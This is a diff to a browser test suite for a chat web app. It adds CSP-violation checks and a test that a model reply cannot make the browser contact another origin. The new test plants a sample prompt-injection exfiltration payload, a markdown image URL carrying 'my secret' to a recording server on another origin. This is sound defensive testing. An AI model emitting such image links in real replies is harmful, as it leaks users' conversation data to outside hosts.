@@ -7,6 +7,7 @@ browser context, so its own session (a new visitor). Screenshots go to
 
 from __future__ import annotations
 
+import base64
 import json
 import re
 import time
@@ -16,6 +17,7 @@ import pytest
 from playwright.sync_api import Page, expect
 
 from gateway.models import RequestLog
+from tests.conftest import LiveServer, report_csp_violations
 from tests.webapp.chat.deployment import start_deployment
 from webapp.chat import free_tier
 from webapp.models import Conversation, Message
@@ -240,6 +242,48 @@ def test_reply_with_script_is_shown_as_text(chat_app, chat: Page):
     expect(chat.locator("#chat-title")).to_contain_text("<b>not bold</b>")
 
 
+@pytest.fixture
+def other_site():
+    """A server on another origin that records every request it gets."""
+    from starlette.applications import Starlette
+    from starlette.responses import Response
+    from starlette.routing import Route
+
+    hits: list[str] = []
+
+    async def anything(request):
+        hits.append(str(request.url))
+        return Response(PIXEL, media_type="image/png")
+
+    server = LiveServer(Starlette(routes=[Route("/{path:path}", anything)])).start()
+    server.hits = hits
+    yield server
+    server.stop()
+
+
+PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
+
+
+def test_a_reply_cannot_make_the_browser_call_another_site(chat_app, chat: Page, other_site):
+    """A prompt-injected image URL would carry the chat away the moment the reply shows."""
+    elsewhere: list[str] = []
+    chat.on("request", lambda r: elsewhere.append(r.url) if r.url.startswith(other_site.url) else None)
+    dot = "data:image/png;base64," + base64.b64encode(PIXEL).decode()
+    chat_app.upstream.replies.append(f"Noted. ![chart]({other_site.url}/leak.png?q=my+secret) ![dot]({dot})")
+    send(chat, "my secret")
+    reply = last_reply(chat)
+    expect(reply.locator("button.stop")).to_have_count(0, timeout=15_000)
+    chat.wait_for_load_state("networkidle")
+    assert other_site.hits == [] and elsewhere == []
+    expect(reply.locator(f'a[href^="{other_site.url}"]')).to_have_text("chart")
+    expect(reply.locator('img[alt="dot"]')).to_have_count(1)
+    assert chat.evaluate("() => document.querySelector('img[alt=dot]').naturalWidth") == 1  # data: images show
+    chat.reload()
+    expect(last_reply(chat).locator(f'a[href^="{other_site.url}"]')).to_have_text("chart")
+    chat.wait_for_load_state("networkidle")
+    assert other_site.hits == [] and elsewhere == []
+
+
 def test_export_and_import(chat_app, chat: Page, browser, tmp_path):
     chat_app.upstream.replies.append("Exported reply.")
     send(chat, "Keep this one")
@@ -253,6 +297,7 @@ def test_export_and_import(chat_app, chat: Page, browser, tmp_path):
     assert [m["content"] for m in document["conversations"][0]["messages"]] == ["Keep this one", "Exported reply."]
     # A different visitor imports it and sees the conversation.
     other = browser.new_context(locale="en-US", viewport={"width": 1280, "height": 800})
+    violations = report_csp_violations(other)
     try:
         page = other.new_page()
         page.goto(chat_app.url + "/")
@@ -266,10 +311,12 @@ def test_export_and_import(chat_app, chat: Page, browser, tmp_path):
         expect(page.locator("#import-notice")).to_contain_text("not JSON")
     finally:
         other.close()
+    assert not violations, f"the page broke its Content-Security-Policy: {violations}"
 
 
 def test_phone_and_chinese(chat_app, browser):
     context = browser.new_context(locale="zh-CN", viewport={"width": 390, "height": 844})
+    violations = report_csp_violations(context)
     try:
         page = context.new_page()
         page.goto(chat_app.url + "/")
@@ -305,3 +352,4 @@ def test_phone_and_chinese(chat_app, browser):
         page.screenshot(path=str(ARTIFACTS / "chat-desktop-zh-dark.png"))
     finally:
         context.close()
+    assert not violations, f"the page broke its Content-Security-Policy: {violations}"
